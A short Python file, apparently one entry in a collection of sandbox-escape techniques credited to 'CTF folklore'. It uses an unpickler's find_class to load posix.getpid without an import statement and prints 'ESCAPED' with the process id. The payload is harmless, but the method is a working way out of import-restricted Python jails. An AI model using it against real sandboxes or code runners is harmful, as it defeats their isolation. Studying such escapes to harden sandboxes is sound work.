# technique: _pickle.Unpickler.find_class
# goal: import
# source: CTF folklore
import _pickle
import io
find = _pickle.Unpickler(io.BytesIO()).find_class
print('ESCAPED pid=%d' % find('posix', 'getpid')())
